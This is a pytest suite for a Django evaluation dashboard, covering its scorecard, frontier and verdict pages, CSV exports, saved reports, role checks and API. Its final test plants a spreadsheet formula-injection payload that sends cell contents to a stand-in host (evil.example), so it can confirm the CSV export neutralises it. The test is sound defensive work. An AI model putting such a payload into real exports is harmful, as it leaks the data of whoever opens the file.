"""Pages, CSV exports, saved reports, roles and the JSON API of the leadership view."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.urls import reverse

from evalhub.core.models import ApiKey, ApiKeyScope, generate_api_key, hash_api_key
from evalhub.dashboards import pages, services
from evalhub.dashboards.models import Report

pytestmark = pytest.mark.django_db

PAGES = ["dashboards:scorecard", "dashboards:frontier", "dashboards:verdict", "dashboards:scorecard_csv",
         "dashboards:frontier_csv", "dashboards:verdict_csv", "dashboards:reports"]


def _variants_in(html: str, table_id: str) -> list[str]:
    table = html.split(f'id="{table_id}"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<tr data-variant="([^"]+)"', table)


def test_scorecard_shows_every_variant_with_intervals(world, viewer_client):
    response = viewer_client.get(reverse("dashboards:scorecard"))
    assert response.status_code == 200
    html = response.content.decode()
    slugs = _variants_in(html, "scorecard-table")
    assert set(slugs) == set(world.variants)
    assert slugs[0] == "t-70b"  # default sort: BT score, best first
    assert "1080 [1068, 1092]" in html  # DPO's BT with its interval
    assert "keep running" in html
    assert "DPO vs base" in html
    assert "Computed at" in html


def test_scorecard_filters_by_improvement_kind_and_sorts(world, viewer_client):
    html = viewer_client.get(reverse("dashboards:scorecard"), {"kind": "test-time compute"}).content.decode()
    assert _variants_in(html, "scorecard-table") == ["t-7b-sc16", "t-7b-think", "t-7b-sc4"]
    html = viewer_client.get(reverse("dashboards:scorecard"),
                             {"kind": "test-time compute", "sort": "cost", "dir": "asc"}).content.decode()
    assert _variants_in(html, "scorecard-table") == ["t-7b-sc4", "t-7b-think", "t-7b-sc16"]
    html = viewer_client.get(reverse("dashboards:scorecard"), {"kind": "post-training"}).content.decode()
    assert set(_variants_in(html, "scorecard-table")) == {"t-7b-dpo", "t-7b-sft"}
    for direction in ("asc", "desc"):  # a variant never run on the suite goes last either way
        html = viewer_client.get(reverse("dashboards:scorecard"), {"sort": "suite:arith", "dir": direction}).content.decode()
        assert _variants_in(html, "scorecard-table")[-1] == "t-7b-rag"


@pytest.mark.parametrize(("query", "field"), [({"kind": "magic"}, "kind"), ({"days": "x"}, "days"),
                                              ({"days": "0"}, "days"), ({"sort": "nope"}, "sort"),
                                              ({"axis": "tokens"}, "axis"), ({"quality": "suite:nope"}, "quality")])
def test_bad_parameters_are_400_naming_the_field(viewer_client, query, field):
    url = reverse("dashboards:frontier")
    response = viewer_client.get(url, query)
    assert response.status_code == 400
    assert f"{field}:" in response.content.decode()


def test_frontier_page_embeds_the_figure_and_download_buttons(world, viewer_client):
    html = viewer_client.get(reverse("dashboards:frontier"), {"quality": "suite:arith", "axis": "latency"}).content.decode()
    fig = json.loads(html.split('id="frontier-chart-data" type="application/json">', 1)[1].split("</script>", 1)[0])
    assert fig["layout"]["xaxis"]["title"]["text"] == "latency p95 (ms)"
    assert 'data-format="svg"' in html
    assert 'data-format="png"' in html
    config = json.loads(html.split('id="plot-config" type="application/json">', 1)[1].split("</script>", 1)[0])
    assert config["toImageButtonOptions"]["format"] == "png"
    assert "js/dashboards.js" in html
    assert "js/plotly.min.js" in html


def test_verdict_page_states_the_lever(world, viewer_client):
    html = viewer_client.get(reverse("dashboards:verdict")).content.decode()
    assert "Where the next dollar goes: post-training." in html  # the overall answer
    assert "On human preference (BT score) alone: post-training." in html  # the drill-down
    assert 'id="verdict-chart-0"' in html
    assert "Head-to-head" in html
    assert "human preference" in html


@pytest.mark.parametrize("name", ["dashboards:scorecard", "dashboards:frontier", "dashboards:verdict"])
def test_query_ceiling_per_page(world, viewer_client, django_assert_max_num_queries, name):
    services.report_current(7)  # warm: what a viewer hits after the refresh task ran
    with django_assert_max_num_queries(6):
        assert viewer_client.get(reverse(name)).status_code == 200
    Report.objects.all().delete()  # cold: the page computes the payload itself, still bounded
    with django_assert_max_num_queries(25):
        assert viewer_client.get(reverse(name)).status_code == 200


def test_scorecard_csv(world, viewer_client):
    response = viewer_client.get(reverse("dashboards:scorecard_csv"), {"kind": "post-training"})
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="evalhub-scorecard.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["variant"] for r in rows] == ["t-7b-dpo", "t-7b-sft"]
    assert rows[0]["bt"] == "1080"
    assert rows[0]["bt_lower"] == "1068"
    assert float(rows[0]["suite_arith"]) == pytest.approx(sum(world.item_scores["t-7b-dpo"]) / 80)
    assert float(rows[0]["success_rate"]) > 0
    assert rows[0]["requests"] == "960"


def test_frontier_and_verdict_csv(world, viewer_client):
    rows = list(csv.DictReader(io.StringIO(viewer_client.get(reverse("dashboards:frontier_csv")).content.decode())))
    sft = next(r for r in rows if r["variant"] == "t-7b-sft")
    assert sft["on_frontier"] == "False"
    assert sft["dominated_by"] == "t-7b-dpo"
    rows = list(csv.DictReader(io.StringIO(viewer_client.get(reverse("dashboards:verdict_csv")).content.decode())))
    gain = next(r for r in rows if r["table"] == "compute-equivalent gain" and r["variant"] == "t-7b-dpo")
    assert float(gain["compute_multiple"]) > 16
    assert any(r["table"] == "head-to-head" and r["kind_or_evidence"] == "production" for r in rows)
    response = viewer_client.get(reverse("dashboards:verdict_csv"), {"quality": "nope"})
    assert response.status_code == 400
    assert b"quality" in response.content


def test_saved_report_has_a_stable_url_and_keeps_its_numbers(world, viewer, viewer_client):
    response = viewer_client.post(reverse("dashboards:reports"),
                                  {"page": "verdict", "quality": "bt", "axis": "cost", "days": "7", "title": "Q3 review"})
    assert response.status_code == 302
    report = Report.objects.get(saved=True)
    assert response["Location"] == reverse("dashboards:report", args=[report.uuid])
    assert report.created_by == viewer
    assert report.kind == "verdict"
    assert report.title == "Q3 review"
    # New evidence after saving must not change the saved report.
    from judging.models import LeaderboardSnapshot

    LeaderboardSnapshot.objects.create(kind="bt", payload={"boards": {"all": {"rows": [
        {"variant_id": world.variants["t-7b-dpo"].pk, "score": 1500.0, "ci_lower": 1490.0, "ci_upper": 1510.0}]}}})
    services.report_current(7, refresh=True)
    assert "1500 [1490, 1510]" in viewer_client.get(reverse("dashboards:scorecard")).content.decode()
    html = viewer_client.get(response["Location"]).content.decode()
    assert "Q3 review" in html
    assert report.computed_at.strftime("%Y-%m-%d %H:%M:%S") in html
    assert "1080 [1068, 1092]" in html
    assert "1500 [1490, 1510]" not in html
    assert 'id="frontier-chart"' in html
    assert 'id="report-verdict-chart-0"' in html
    csv_text = viewer_client.get(reverse("dashboards:scorecard_csv"), {"report": str(report.uuid)}).content.decode()
    assert ",1080," in csv_text
    listing = viewer_client.get(reverse("dashboards:reports")).content.decode()
    assert "Q3 review" in listing
    assert viewer_client.get(reverse("dashboards:scorecard_csv"), {"report": "not-a-uuid"}).status_code == 404


def test_saving_a_report_with_bad_params_writes_nothing(world, engineer_client):
    response = engineer_client.post(reverse("dashboards:reports"), {"page": "frontier", "days": "999"})
    assert response.status_code == 400
    assert not Report.objects.filter(saved=True).exists()


def test_roles(world, client, reviewer_client, engineer_client, admin_client_):
    for name in PAGES:
        url = reverse(name)
        assert client.get(url).status_code == 302
        assert reviewer_client.get(url).status_code == 403
        assert engineer_client.get(url).status_code == 200
        assert admin_client_.get(url).status_code == 200
    assert reviewer_client.post(reverse("dashboards:reports"), {"page": "scorecard"}).status_code == 403
    assert not Report.objects.filter(saved=True).exists()


# ---------------------------------------------------------------- API


def _read_key(user) -> str:
    prefix, raw = generate_api_key()
    ApiKey.objects.create(name="dash", owner=user, prefix=prefix, key_hash=hash_api_key(raw),
                          scopes=[ApiKeyScope.READ])
    return raw


def test_api_scorecard_frontier_verdict_with_a_read_key(world, client, viewer):
    headers = {"Authorization": f"Bearer {_read_key(viewer)}"}
    body = client.get("/api/v1/dashboards/scorecard?kind=post-training", headers=headers).json()
    assert {r["slug"] for r in body["rows"]} == {"t-7b-dpo", "t-7b-sft"}
    assert body["computed_at"]
    body = client.get("/api/v1/dashboards/frontier?quality=suite:arith&axis=latency", headers=headers).json()
    assert body["axis"] == "latency"
    assert body["points"]
    assert body["caption"]
    body = client.get("/api/v1/dashboards/verdict", headers=headers).json()
    section = body["sections"][0]
    assert section["base_model"] == "t-7b"
    assert section["headline"]["lever"] == "post-training"
    assert any(g["slug"] == "t-7b-dpo" for g in section["gains"])


def test_api_bodies_are_the_typed_pages_with_nothing_dropped(world, viewer_client):
    """The typed response schemas carry every field of what the pages show from the payload."""
    payload = services.report_current(7).payload
    params = pages.Params()
    body = viewer_client.get("/api/v1/dashboards/scorecard").json()
    page = pages.scorecard(payload, params)
    assert body["rows"] == page["rows"]
    assert body["period"] == page["period"]
    assert body["experiments"] == page["experiments"]
    assert body["suites"] == page["suites"]
    body = viewer_client.get("/api/v1/dashboards/frontier").json()
    assert body["points"] == pages.frontier(payload, params)["data"]["points"]
    body = viewer_client.get("/api/v1/dashboards/verdict").json()
    sections = pages.verdict(payload, params)["sections"]
    for got, want in zip(body["sections"], sections, strict=True):
        assert (got["points"], got["fit"], got["gains"]) == (want["points"], want["fit"], want["gains"])
        assert got["head_to_head"] == want["head_to_head"]
        assert got["headline"] == want["headline"]


def test_api_schema_names_every_field_of_the_dashboards_responses(client):
    from evalhub.api import api

    schema = api.get_openapi_schema()
    components = schema["components"]["schemas"]
    for name in ("ScorecardRow", "FrontierPoint", "ComputeGain", "HeadToHeadRow", "ReportParams"):
        assert components[name]["properties"], name
    row = components["ScorecardRow"]["properties"]
    assert {"slug", "preference", "suites", "production", "compute_multiplier"} <= set(row)


def test_api_session_auth_and_failures(world, client, viewer_client, reviewer_client):
    assert client.get("/api/v1/dashboards/scorecard").status_code == 401
    assert reviewer_client.get("/api/v1/dashboards/verdict").status_code in (401, 403)
    assert viewer_client.get("/api/v1/dashboards/verdict").status_code == 200
    response = viewer_client.get("/api/v1/dashboards/frontier?axis=tokens")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"].endswith("axis")
    response = viewer_client.get("/api/v1/dashboards/verdict?quality=suite:nope")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"].endswith("quality")


def test_api_report(world, viewer_client):
    viewer_client.post(reverse("dashboards:reports"), {"page": "frontier"})
    report = Report.objects.get(saved=True)
    body = viewer_client.get(f"/api/v1/dashboards/reports/{report.uuid}").json()
    assert body["uuid"] == str(report.uuid)
    assert body["url"].endswith(f"/dashboards/reports/{report.uuid}/")
    assert viewer_client.get("/api/v1/dashboards/reports/nope").status_code == 404



def test_csv_exports_neutralise_formula_names(world, viewer_client):
    from evalhub.dashboards.models import Report

    world.variants["t-7b-sft"].__class__.objects.filter(pk=world.variants["t-7b-sft"].pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    Report.objects.all().delete()  # recompute with the new name
    rows = list(csv.DictReader(io.StringIO(viewer_client.get(reverse("dashboards:frontier_csv")).content.decode())))
    sft = next(r for r in rows if r["variant"] == "t-7b-sft")
    assert sft["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert any(r[key].startswith("-") or r[key][:1].isdigit() for r in rows for key in ("cost", "cost_lower") if r.get(key))
